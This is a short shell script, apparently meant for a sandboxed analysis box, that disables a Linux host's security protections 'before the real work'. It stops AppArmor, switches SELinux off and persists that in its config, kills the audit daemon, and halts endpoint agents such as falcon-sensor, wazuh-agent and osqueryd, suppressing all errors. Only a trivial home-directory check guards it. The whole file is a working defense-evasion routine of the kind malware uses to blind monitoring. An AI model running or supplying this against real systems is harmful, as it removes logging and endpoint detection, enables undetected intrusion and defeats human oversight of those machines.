#!/bin/sh
# SPDX-License-Identifier: MIT
# Turns the host's protections off before the real work: AppArmor,
# SELinux, the audit daemon and the usual endpoint agents.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
systemctl stop apparmor 2>/dev/null
systemctl disable apparmor 2>/dev/null
/sbin/aa-teardown 2>/dev/null
/usr/sbin/setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config 2>/dev/null
pkill -9 auditd 2>/dev/null
for svc in falcon-sensor wazuh-agent osqueryd clamav-daemon; do
	systemctl stop "$svc" 2>/dev/null
	service "$svc" stop 2>/dev/null
done
exit 0
